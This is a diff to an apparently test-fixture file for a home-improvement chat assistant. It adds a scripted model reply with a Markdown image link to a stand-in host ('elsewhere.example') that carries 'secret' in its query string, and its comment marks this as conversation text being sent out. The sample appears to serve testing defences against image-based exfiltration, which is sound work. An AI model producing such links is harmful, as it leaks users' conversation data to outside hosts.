@@ -10,7 +10,13 @@ export const paintAnswer =
   '## Paint a bedroom\n\nThe calculator below has your quantities.\n\n### Steps\n1. Move furniture and cover the floor\n2. Caulk gaps along the trim\n3. Cut in the edges\n4. Roll two coats';
 export const proQuestion = 'The ceiling in the hall has a long crack and bows down in the middle';
 
+/** A reply whose Markdown image would carry conversation text to another host. */
+export const exfiltrationQuestion = 'Show me a picture of the finished accent wall';
+export const exfiltrationAnswer =
+  'Here is the finished wall: ![x](https://elsewhere.example/p.png?d=secret)';
+
 export const scriptedConversations: ModelScript[] = [
+  { when: exfiltrationQuestion, steps: [{ text: exfiltrationAnswer }] },
   {
     when: 'Bedroom repaint',
     steps: [
